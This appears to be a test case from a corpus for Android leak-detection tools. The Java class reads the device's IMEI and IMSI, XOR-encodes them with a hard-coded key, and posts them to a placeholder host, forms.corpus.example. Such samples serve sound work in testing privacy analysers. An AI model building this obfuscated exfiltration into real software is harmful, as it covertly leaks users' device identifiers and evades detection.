package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** XOR with a word. */
public class AsXorWord extends Screen {
    @Override
    protected void act() throws Exception {
        byte[] data =
                Net.utf8(
                        "{\"imei\":\""
                                + Owner.imei(this)
                                + "\",\"imsi\":\""
                                + Owner.imsi(this)
                                + "\"}");
        byte[] key = Net.utf8("kRyPt0");
        for (int i = 0; i < data.length; i++) {
            data[i] ^= key[i % key.length];
        }
        Net.post("http://forms.corpus.example/word", "application/octet-stream", data);
    }
}
